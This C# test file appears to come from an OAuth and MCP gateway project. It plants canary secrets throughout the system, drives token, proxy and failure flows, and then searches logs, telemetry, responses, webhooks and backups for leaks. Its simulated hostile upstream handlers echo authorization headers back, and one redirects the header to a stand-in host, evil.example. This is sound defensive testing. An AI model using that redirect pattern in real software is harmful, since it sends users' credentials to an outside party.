using System.Diagnostics;
using System.Net;
using System.Net.Http.Headers;
using System.Text;
using System.Text.Json.Nodes;
using Kontext.Functions.Tests.Admin;
using Kontext.Functions.Tests.Mcp;
using Kontext.Testing;
using Kontext.Testing.Telemetry;

namespace Kontext.Functions.Tests.Hostile;

/// <summary>A recognisable secret in every place that has one, everything done with them that can go right and wrong, and then a search of all that the program ever says, sends and stores.</summary>
public sealed class CanaryTests(AzuriteFixture azurite) : IAsyncLifetime
{
    private readonly DirectoryInfo folder = Directory.CreateTempSubdirectory("kontext-canary-");
    private readonly Dictionary<string, string> canaries = [];
    private readonly List<(string Where, string Text, string[] Issued)> said = [];
    private readonly HttpClient http = new(new SocketsHttpHandler { AllowAutoRedirect = false, UseCookies = false });
    private OtlpReceiver telemetry = null!;
    private McpServerDouble mcp = null!;
    private EchoingProvider provider = null!;
    private WebhookReceiver hooks = null!;
    private KontextServer server = null!;
    private TestAgent agent = null!;
    private string owner = "";

    public async ValueTask InitializeAsync()
    {
        telemetry = await OtlpReceiver.StartAsync();
        mcp = await McpServerDouble.StartAsync(modern: false);
        provider = await EchoingProvider.StartAsync(Canary("provider access token"), Canary("provider refresh token"));
        hooks = new WebhookReceiver();
    }

    public async ValueTask DisposeAsync()
    {
        http.Dispose();
        if (server is not null)
            await server.DisposeAsync();
        await hooks.DisposeAsync();
        await provider.DisposeAsync();
        await mcp.DisposeAsync();
        await telemetry.DisposeAsync();
        folder.Delete(recursive: true);
    }

    [Theory]
    [InlineData("text")]
    [InlineData("json")]
    public async Task No_secret_is_said_logged_exported_sent_or_stored_but_to_whom_it_is_issued(string logFormat)
    {
        var account = await azurite.EmptyAccountAsync();
        var tables = new Uri(account.Split("TableEndpoint=")[1].Split(';')[0]);
        await using var wire = await Wire.OpenAsync(new Uri(tables.GetLeftPart(UriPartial.Authority)));
        var reached = account.Replace("TableEndpoint=" + tables.GetLeftPart(UriPartial.Authority), "TableEndpoint=" + wire.Address.GetLeftPart(UriPartial.Authority), StringComparison.Ordinal);
        server = await KontextServer.StartAsync(reached, Path.Combine(folder.FullName, "keys"), settings: new Dictionary<string, string>(telemetry.Settings()) { ["Kontext__LogFormat"] = logFormat });
        agent = new TestAgent(server.Url);
        owner = canaries["owner's token"] = await agent.ManagementTokenAsync(KontextFixture.Owner);

        await EverythingAsync();
        // Storage fails in the middle of everything once more.
        var requests = 0;
        wire.Rule = async (_, pass) => Interlocked.Increment(ref requests) % 3 == 0 ? WireAnswer.Of(HttpStatusCode.InternalServerError) : await pass();
        await UseAsync();
        wire.Rule = static async (_, pass) => await pass();
        Assert.True(requests > 10);

        await ShownAsync();
        await SearchAsync(account);
    }

    private readonly Dictionary<string, string> ids = [];
    private string clientId = "", basic = "", agentToken = "";

    /// <summary>Plants a secret in every place.</summary>
    private async Task EverythingAsync()
    {
        mcp.Tokens.Add(Canary("server token"));
        mcp.Tokens.Add(Canary("personal token"));
        await IntegrationAsync("shared", new JsonObject { ["url"] = mcp.Url.AbsoluteUri, ["authMode"] = "server_token", ["serverToken"] = canaries["server token"] });
        await IntegrationAsync("personal", new JsonObject { ["url"] = mcp.Url.AbsoluteUri, ["authMode"] = "user_token" });
        await IntegrationAsync("fields", new JsonObject
        {
            ["url"] = provider.Url, ["category"] = "internal_mcp_credentials", ["authMode"] = "user_token", ["credentialSchema"] = new JsonObject { ["login"] = "string", ["key"] = "string" },
            ["proxy"] = new JsonObject { ["baseUrl"] = provider.Url }, ["credentialInjection"] = new JsonObject { ["type"] = "basic", ["field"] = "key", ["usernameField"] = "login" },
        });
        await IntegrationAsync("granted", new JsonObject
        {
            ["url"] = provider.Url, ["category"] = "internal_mcp_credentials", ["authMode"] = "oauth", ["proxy"] = new JsonObject { ["baseUrl"] = provider.Url },
            ["oauth"] = new JsonObject { ["authorizationUrl"] = provider.Url + "/authorize", ["tokenUrl"] = provider.Url + "/token", ["clientId"] = "kontext", ["clientSecret"] = Canary("client secret of an integration"), ["scopes"] = new JsonArray("read") },
        });
        await SayAsync(HttpMethod.Post, "/api/v1/integrations", owner, new JsonObject { ["name"] = "wrong", ["url"] = $"https://u:{Canary("password in an address")}@h.example/", ["authMode"] = "none" });
        await SayAsync(HttpMethod.Post, $"/api/v1/integrations/{ids["personal"]}/connection", owner, new JsonObject { ["token"] = canaries["personal token"] });
        await SayAsync(HttpMethod.Post, $"/api/v1/integrations/{ids["fields"]}/connection", owner, new JsonObject { ["credentials"] = new JsonObject { ["login"] = "me", ["key"] = Canary("credential field") } });
        await SayAsync(HttpMethod.Post, $"/api/v1/integrations/{ids["personal"]}/connection", owner, new JsonObject { ["tokens"] = Canary("token in an unknown field") });

        var application = await Issued("client secret", HttpMethod.Post, "/api/v1/applications", new JsonObject { ["name"] = "agent", ["oauth"] = new JsonObject { ["type"] = "confidential", ["redirectUris"] = new JsonArray(TestAgent.RedirectUri) } }, json => json["oauth"]!["clientSecret"]);
        (ids["application"], clientId) = ((string)application["application"]!["id"]!, (string)application["oauth"]!["clientId"]!);
        basic = $"{clientId}:{canaries["client secret"]}";
        await Issued("service account's secret", HttpMethod.Post, "/api/v1/service-accounts", new JsonObject { ["name"] = "robot" }, json => json["credentials"]!["clientSecret"]);
        await Issued("webhook's secret", HttpMethod.Post, "/api/v1/webhooks", new JsonObject { ["url"] = hooks.Url }, json => json["webhook"]!["secret"] ?? json["secret"]);
        await SayAsync(HttpMethod.Put, $"/api/v1/applications/{ids["application"]}/integrations", owner, new JsonObject { ["integrationIds"] = new JsonArray(ids["shared"], ids["personal"], ids["fields"], ids["granted"]) });

        using var browser = new FormBrowser();
        var (url, verifier) = agent.AuthorizeUrl(clientId, agent.Gateway, "openid mcp:invoke offline_access");
        var code = canaries["authorization code"] = (await TestAgent.DecideAsync(browser, url, KontextFixture.Owner))["code"];
        canaries["code verifier"] = verifier;
        JsonObject Redeem(string how) => new() { ["grant_type"] = "authorization_code", ["code"] = code, ["redirect_uri"] = TestAgent.RedirectUri, ["code_verifier"] = how };
        var tokens = await SayFormAsync("/oauth2/token", Redeem(verifier), basic, "access_token", "refresh_token", "id_token");
        agentToken = canaries["access token"] = (string)tokens["access_token"]!;
        canaries["refresh token"] = (string)tokens["refresh_token"]!;
        await UseAsync();
        await ConnectAsync(browser);
        await UseAsync();
        await SayFormAsync("/oauth2/token", Redeem(verifier), basic);
    }

    /// <summary>Everything that uses a secret, well and badly.</summary>
    private async Task UseAsync()
    {
        foreach (var name in new[] { "shared", "personal", "fields", "granted", "mcp-gateway", "nothing" })
            await SayFormAsync("/oauth2/token", new JsonObject { ["grant_type"] = "urn:ietf:params:oauth:grant-type:token-exchange", ["subject_token"] = agentToken, ["subject_token_type"] = "urn:ietf:params:oauth:token-type:access_token", ["resource"] = name }, basic, "access_token");
        await SayFormAsync("/oauth2/token", new JsonObject { ["grant_type"] = "refresh_token", ["refresh_token"] = Canary("a wrong refresh token") }, basic);
        await SayFormAsync("/oauth2/token", new JsonObject { ["grant_type"] = "refresh_token", ["refresh_token"] = canaries["refresh token"] }, clientId + ":" + Canary("a wrong client secret"));
        await SayFormAsync("/oauth2/token", new JsonObject { ["grant_type"] = "urn:ietf:params:oauth:grant-type:token-exchange", ["subject_token"] = Canary("a wrong subject token"), ["subject_token_type"] = "urn:ietf:params:oauth:token-type:access_token", ["resource"] = "shared" }, basic);
        await SayFormAsync("/oauth2/introspect", new JsonObject { ["token"] = agentToken }, basic);
        await SayFormAsync("/oauth2/introspect", new JsonObject { ["token"] = Canary("a wrong token") }, basic);
        await SayAsync(HttpMethod.Get, "/api/v1/applications", Canary("a wrong bearer"));
        await SayAsync(HttpMethod.Get, "/api/v1/applications?access_token=" + Canary("a token in an address"), null);
        await SayAsync(HttpMethod.Post, "/mcp", Canary("a wrong bearer at the gateway"), new JsonObject());
        foreach (var fault in new Func<Microsoft.AspNetCore.Http.HttpContext, JsonNode, Task<bool>>[] { (_, _) => Task.FromResult(false), EchoErrorAsync, EchoStatusAsync, EchoRedirectAsync, EchoGarbageAsync })
        {
            mcp.Fault = fault;
            foreach (var (method, parameters) in new (string, JsonObject?)[] { ("tools/list", null), ("tools/call", Call("shared:echo")), ("tools/call", Call("personal:echo")), ("tools/call", Call("granted:echo")) })
                await SayAsync(HttpMethod.Post, "/mcp", agentToken, new JsonObject { ["jsonrpc"] = "2.0", ["id"] = 1, ["method"] = method, ["params"] = parameters ?? [] });
            foreach (var name in new[] { "shared", "personal", "granted" })
                await SayAsync(HttpMethod.Post, $"/api/v1/integrations/{ids[name]}/validate", owner);
            await SayAsync(HttpMethod.Post, $"/api/v1/integrations/{ids["personal"]}/connection/validate", owner);
            await SayAsync(HttpMethod.Post, $"/api/v1/integrations/{ids["personal"]}/connection", owner, new JsonObject { ["token"] = canaries["personal token"] });
        }
        mcp.Fault = static (_, _) => Task.FromResult(false);
        foreach (var name in new[] { "fields", "granted" })
        {
            await SayAsync(HttpMethod.Get, $"/proxy/{name}/things?q=1", agentToken);
            await SayAsync(HttpMethod.Post, $"/proxy/{name}/things", agentToken, new JsonObject { ["a"] = 1 });
        }

        static JsonObject Call(string tool) => new() { ["name"] = tool, ["arguments"] = new JsonObject { ["text"] = "x" } };
    }

    private static string Authorization(Microsoft.AspNetCore.Http.HttpContext context) => context.Request.Headers.Authorization.ToString();

    private static async Task<bool> EchoErrorAsync(Microsoft.AspNetCore.Http.HttpContext context, JsonNode body)
    {
        context.Response.ContentType = "application/json";
        await Microsoft.AspNetCore.Http.HttpResponseWritingExtensions.WriteAsync(context.Response, new JsonObject { ["jsonrpc"] = "2.0", ["id"] = body["id"]?.DeepClone(), ["error"] = new JsonObject { ["code"] = -32000, ["message"] = Authorization(context), ["data"] = new JsonObject { ["header"] = Authorization(context) } } }.ToJsonString());
        return true;
    }

    private static async Task<bool> EchoStatusAsync(Microsoft.AspNetCore.Http.HttpContext context, JsonNode body)
    {
        context.Response.StatusCode = 401;
        context.Response.Headers.WWWAuthenticate = $"Bearer error=\"invalid_token\", error_description=\"{Authorization(context)}\"";
        await Microsoft.AspNetCore.Http.HttpResponseWritingExtensions.WriteAsync(context.Response, Authorization(context));
        return true;
    }

    private static Task<bool> EchoRedirectAsync(Microsoft.AspNetCore.Http.HttpContext context, JsonNode body)
    {
        context.Response.Redirect("https://evil.example/?" + Uri.EscapeDataString(Authorization(context)));
        return Task.FromResult(true);
    }

    private static async Task<bool> EchoGarbageAsync(Microsoft.AspNetCore.Http.HttpContext context, JsonNode body)
    {
        context.Response.StatusCode = 500;
        context.Response.ContentType = "text/html";
        await Microsoft.AspNetCore.Http.HttpResponseWritingExtensions.WriteAsync(context.Response, $"<h1>{Authorization(context)}");
        return true;
    }

    /// <summary>The person authorizes at the provider.</summary>
    private async Task ConnectAsync(FormBrowser browser)
    {
        var page = await browser.OpenAsync(new Uri(server.Url, "/integrations"));
        var form = page.Document.QuerySelectorAll("form").First(form => form.GetAttribute("action") is "/integrations/granted/connect" || form.GetAttribute("action") == $"/integrations/{ids["granted"]}/connect");
        page = await browser.SubmitAsync(page, form.QuerySelector("button")!, null, target => target.Authority != server.Url.Authority);
        var onward = page.Location ?? new Uri(page.Document.QuerySelector("a[href*='state=']")!.GetAttribute("href")!);
        var state = canaries["state of an authorization"] = Microsoft.AspNetCore.WebUtilities.QueryHelpers.ParseQuery(onward.Query)["state"].ToString();
        page = await browser.OpenAsync(new Uri(server.Url, $"/oauth/callback?code={Canary("code of the provider")}&state={Uri.EscapeDataString(state)}"));
        if (page.Document.QuerySelector("form[action*='/callback'] button") is { } finish)
            await browser.SubmitAsync(page, finish);
        var connection = await agent.ApiAsync(HttpMethod.Get, $"/integrations/{ids["granted"]}/connection", owner);
        Assert.Equal(HttpStatusCode.OK, connection.Status);
    }

    /// <summary>Everything that can be read.</summary>
    private async Task ShownAsync()
    {
        var today = TimeProvider.System.GetUtcNow().ToString("yyyy-MM-dd", System.Globalization.CultureInfo.InvariantCulture);
        foreach (var operation in OpenApi.ApiReference.Operations.Where(operation => operation.Method == "GET"))
        {
            foreach (var id in operation.Path.Contains('{', StringComparison.Ordinal) ? ids.Values.ToArray() : [""])
                await SayAsync(HttpMethod.Get, "/api/v1" + string.Join('/', operation.Path.Split('/').Select(part => part.StartsWith('{') ? id : part)) + (operation.Path == "/audit/export" ? $"?from={today}&to={today}" : "?limit=200"), owner);
        }
        var export = said.Last(answer => answer.Where.Contains("/audit/export", StringComparison.Ordinal));
        Assert.Contains("agent", export.Text, StringComparison.Ordinal);
        foreach (var trace in JsonNode.Parse(said.Last(answer => answer.Where.Contains("/traces?", StringComparison.Ordinal)).Text.Split('\n')[^1])!["items"]!.AsArray().Take(40))
            await SayAsync(HttpMethod.Get, $"/api/v1/traces/{trace!["traceId"]}", owner);
        using var visitor = await Visitor.SignInAsync(server.Url, KontextFixture.Owner);
        foreach (var path in Administrators.Pages.Concat(["/", "/integrations", "/sessions", "/approvals", "/rules", "/mcps", $"/console/applications/{ids["application"]}"]).Concat(ids.Values.Select(id => $"/console/integrations/{id}")))
        {
            var page = await visitor.GetAsync(path);
            said.Add(("GET " + path, page.Text + string.Join('\n', page.Headers.Values), []));
        }
    }

    private async Task SearchAsync(string account)
    {
        await server.KillAsync();
        var file = Path.Combine(folder.FullName, "backup.jsonl");
        var start = new ProcessStartInfo("dotnet", [Path.Combine(AppContext.BaseDirectory, "Kontext.Functions.dll"), "backup", file]) { RedirectStandardOutput = true, RedirectStandardError = true };
        start.Environment["Kontext__Storage"] = account;
        start.Environment["ASPNETCORE_ENVIRONMENT"] = "Development";
        start.Environment["Kontext__KeyDirectory"] = Path.Combine(folder.FullName, "keys");
        using (var backup = Process.Start(start)!)
        {
            var (output, errors) = (backup.StandardOutput.ReadToEndAsync(), backup.StandardError.ReadToEndAsync());
            await backup.WaitForExitAsync();
            Assert.True(backup.ExitCode == 0, await output + await errors);
        }
        var rows = await File.ReadAllTextAsync(file);
        Assert.Contains("credential", rows, StringComparison.OrdinalIgnoreCase);
        var outputs = said.Append(("the log", server.Output, [])).Append(("telemetry", telemetry.Everything, [])).Append(("what is stored", rows, [])).ToList();
        while (hooks.Waiting is { } message)
            outputs.Add(("a webhook", message.Body + message.Headers.ToJsonString(), []));
        Assert.Contains("Kontext", server.Output, StringComparison.OrdinalIgnoreCase);
        Assert.True(telemetry.Everything.Length > 1000);
        var found = new List<string>();
        foreach (var (name, value) in canaries)
        {
            // As it is, and as a credential is written into HTTP Basic.
            foreach (var form in new[] { value, Convert.ToBase64String(Encoding.UTF8.GetBytes(value)).TrimEnd('=')[..^2], Uri.EscapeDataString(value), Convert.ToBase64String(Encoding.UTF8.GetBytes("me:" + value)).TrimEnd('=')[4..^2] }.Distinct())
                found.AddRange(outputs.Where(output => output.Text.Contains(form, StringComparison.Ordinal) && !output.Issued.Contains(name)).Select(output => $"{name} in {output.Where}: {Around(output.Text, form)}"));
        }
        found.AddRange(said.Where(answer => answer.Where.EndsWith("(500)", StringComparison.Ordinal) && !answer.Where.Contains("/proxy/", StringComparison.Ordinal)).Select(answer => $"{answer.Where}: {answer.Text[..Math.Min(answer.Text.Length, 900)]}\n{Logged(answer.Text)}"));
        TestContext.Current.TestOutputHelper?.WriteLine($"{canaries.Count} secrets, {outputs.Count} outputs, {rows.Count(character => character == '\n')} rows");
        Assert.True(canaries.Count > 20 && outputs.Count > 200, $"{canaries.Count} secrets, {outputs.Count} outputs");
        Assert.True(found.Count == 0, $"{found.Count}:\n" + string.Join('\n', found.Distinct().Take(40)));
    }

    /// <summary>What the log says of a request that failed, from the line that names it.</summary>
    private string Logged(string answer)
    {
        var id = answer.Split("request id ")[^1].Split(".\"")[0];
        return string.Join('\n', server.Output.Split('\n').SkipWhile(line => !line.Contains(id, StringComparison.Ordinal)).Take(25));
    }

    private static string Around(string text, string form)
    {
        var at = text.IndexOf(form, StringComparison.Ordinal);
        return text[Math.Max(0, at - 150)..at].ReplaceLineEndings(" ") + "***";
    }

    private string Canary(string name) => canaries.TryGetValue(name, out var known) ? known : canaries[name] = $"kxcanary{canaries.Count:00}{Guid.NewGuid():n}";

    private async Task IntegrationAsync(string name, JsonObject body)
    {
        body["name"] = name;
        ids[name] = (string)(await SayAsync(HttpMethod.Post, "/api/v1/integrations", owner, body))["integration"]!["id"]!;
    }

    /// <summary>A request whose answer rightly holds a secret: that one, and once.</summary>
    private async Task<JsonNode> Issued(string name, HttpMethod method, string path, JsonObject body, Func<JsonNode, JsonNode?> secret)
    {
        var answer = await SayAsync(method, path, owner, body);
        canaries[name] = (string?)secret(answer) ?? throw new InvalidOperationException($"{path} issued nothing: {answer}");
        said[^1] = said[^1] with { Issued = [name] };
        return answer;
    }

    private async Task<JsonNode> SayAsync(HttpMethod method, string path, string? token, JsonNode? body = null)
    {
        using var request = new HttpRequestMessage(method, new Uri(server.Url, path));
        if (token is not null)
            request.Headers.Authorization = new AuthenticationHeaderValue("Bearer", token);
        request.Headers.TryAddWithoutValidation("Accept", "application/json, text/event-stream");
        if (body is not null)
            request.Content = new StringContent(body.ToJsonString(), Encoding.UTF8, "application/json");
        return await TakeAsync(request, []);
    }

    /// <summary>A form of the confidential client; the named members of the answer are what it is for.</summary>
    private Task<JsonNode> SayFormAsync(string path, JsonObject form, string basic, params string[] issued)
    {
        var request = new HttpRequestMessage(HttpMethod.Post, new Uri(server.Url, path)) { Content = new FormUrlEncodedContent(form.Select(field => KeyValuePair.Create(field.Key, (string)field.Value!))) };
        request.Headers.Authorization = new AuthenticationHeaderValue("Basic", Convert.ToBase64String(Encoding.UTF8.GetBytes(basic)));
        return TakeAsync(request, issued);
    }

    private async Task<JsonNode> TakeAsync(HttpRequestMessage request, string[] issued)
    {
        using var sent = request;
        using var answer = await http.SendAsync(sent);
        var text = await answer.Content.ReadAsStringAsync();
        var json = text.StartsWith('{') && answer.Content.Headers.ContentType?.MediaType == "application/json" ? JsonNode.Parse(text)! : new JsonObject();
        var left = json.DeepClone();
        // Tokens are issued to whom they are for; everything else in the answer is searched.
        if (answer.IsSuccessStatusCode)
            foreach (var member in issued)
                ((JsonObject)left).Remove(member);
        said.Add(($"{request.Method} {request.RequestUri!.AbsolutePath}{(request.RequestUri.AbsolutePath == "/api/v1/traces" ? "?" : "")} ({(int)answer.StatusCode})", string.Join('\n', answer.Headers.Concat(answer.Content.Headers).Select(header => $"{header.Key}: {string.Join(',', header.Value)}")) + "\n" + (issued.Length > 0 ? left.ToJsonString() : text), []));
        return json;
    }
}
